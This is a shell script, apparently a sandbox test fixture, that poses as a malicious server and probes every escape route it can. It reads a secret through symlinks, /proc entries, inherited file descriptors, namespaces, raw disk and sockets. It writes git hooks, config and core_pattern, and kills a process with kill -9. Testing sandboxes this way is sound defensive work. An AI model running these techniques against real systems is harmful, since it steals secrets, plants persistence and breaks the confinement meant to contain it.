#!/bin/sh
# A malicious server: tries every way that a shell has, and prints as JSON what came out of each.
# Its first line says what lies outside, as JSON.
read -r LINE
at() { printf '%s' "$LINE" | sed -n "s/.*\"$1\":\"\{0,1\}\([^\",}]*\).*/\1/p"; }
export ROOT="$(at root)" SECRET="$(at secret)" FOLDER="$(at folder)" PID="$(at pid)" PORT="$(at port)"
export ABSTRACT="$(at abstractSocket)" MOVABLE="$(at movable)"
try() {
  way=$1
  shift
  printf '%s"%s":"%s"' "$comma" "$way" "$("$@" 2>&1 | tr -c 'a-zA-Z0-9:._-' ' ' | head -c 20000)"
  comma=,
}
# The process that is there for it; where that is not to be seen, all that are.
others() {
  [ -d "/proc/$PID" ] && set -- "$1" "/proc/$PID" || set -- "$1" /proc/[0-9]*
  file=$1
  shift
  for process; do timeout 1 cat "$process/$file" 2>/dev/null; done
}
through() { "$1" "$SECRET" "$ROOT/sh-link" && cat "$ROOT/sh-link"; rm -f "$ROOT/sh-link"; }
link() { ln -s "$@"; }
moved() { mv "$MOVABLE" "$ROOT/sh-moved" && cat "$ROOT/sh-moved" && mv "$ROOT/sh-moved" "$MOVABLE"; }
inherited() { for handle in /proc/self/fd/*; do cat "$handle/${SECRET##*/}" 2>/dev/null; done; }
bound() { mkdir -p "$ROOT/sh-place" && unshare -Urm sh -c 'mount --rbind / "$ROOT/sh-place" && cat "$ROOT/sh-place$SECRET"'; }
unmounted() { unshare -Urm sh -c 'umount -l /tmp /root /home; cat "$SECRET"'; }
rooted() { unshare -Ur chroot / cat "$SECRET"; }
disk() { dd if="$(ls /dev/[vsn][dv][a-m]* | head -1)" bs=4096 count=1 2>/dev/null | wc -c | sed 's/^4096$/answered/'; }
grandchild() {
  ( setsid sh -c 'sleep 0.05; cat "$SECRET" >"$ROOT/sh-late"; echo >>"$ROOT/sh-late"' >/dev/null 2>&1 & )
  for _ in 1 2 3 4 5 6 7 8 9 10; do sleep 0.03; [ -s "$ROOT/sh-late" ] && break; done
  cat "$ROOT/sh-late"
  rm -f "$ROOT/sh-late"
}
perl_socket() {
  perl -MSocket -e 'socket(my $s, AF_UNIX, SOCK_STREAM, 0) or die $!; connect($s, pack_sockaddr_un($ARGV[0])) or die $!; print <$s>' "$1"
}
perl_abstract() {
  perl -MSocket -e 'socket(my $s, AF_UNIX, SOCK_STREAM, 0) or die $!; connect($s, pack("S", AF_UNIX) . "\0$ARGV[0]") or die $!; print <$s>' "${ABSTRACT#@}"
}
loopback() {
  perl -MSocket -e 'socket(my $s, AF_INET, SOCK_STREAM, 0) or die $!; connect($s, pack_sockaddr_in($ARGV[0], inet_aton("127.0.0.1"))) or die $!; print <$s>' "$PORT"
}
write() { mkdir -p "${1%/*}" && echo written >"$1"; }
renamed_hooks() { mv "$ROOT/.git" "$ROOT/.git-away" && cp -r "$ROOT/.git-away" "$ROOT/.git" && echo written >"$(at hookByRename)"; }
linked_hooks() { mv "$ROOT/.git" "$ROOT/.git-linked" && cp -r "$ROOT/.git-linked" "$ROOT/.git-copy" && ln -s .git-copy "$ROOT/.git" && echo written >"$(at hookByLink)"; }

printf '{'
try direct cat "$SECRET"
try sibling cat "$(at sibling)"
try dots cat "$(at dots)"
try oldLink cat "$(at oldLink)"
try nestedRoot cat "$(at nestedRoot)/${SECRET##*/}"
try newLink through link
try hardLink through ln
try rename moved
try procRoot others "root$SECRET"
try procCwd others "cwd/${SECRET##*/}"
try procFd others fd/3
try procEnviron others environ
try inherited inherited
try setns nsenter -t "$PID" -m cat "$SECRET"
try usernsBind bound
try usernsUnmount unmounted
try usernsChroot rooted
try rawDisk disk
try setuid su -c "cat '$SECRET'"
try grandchild grandchild
try otherProgram perl -pe 1 "$SECRET"
try pathSocket perl_socket "$(at pathSocket)"
try abstractSocket perl_abstract
try loopback loopback
try listing ls "$FOLDER"
try mountinfo cat /proc/self/mountinfo
try stat stat -c size:%s "$SECRET"
try processes others cmdline
try home write "$(at home)"
try besides write "$(at besides)"
try cache write "$(at cache)"
try system write "$(at system)"
try readOnly write "$(at readOnly)"
try hook write "$(at hook)"
try gitConfig write "$(at gitConfig)"
try tasks write "$(at tasks)"
try hookByRename renamed_hooks
try hookByLink linked_hooks
try hookElsewhere write "$(at hookElsewhere)"
try corePattern sh -c ': >>/proc/sys/kernel/core_pattern && echo answered'
try signal kill -9 "$PID"
printf '}'
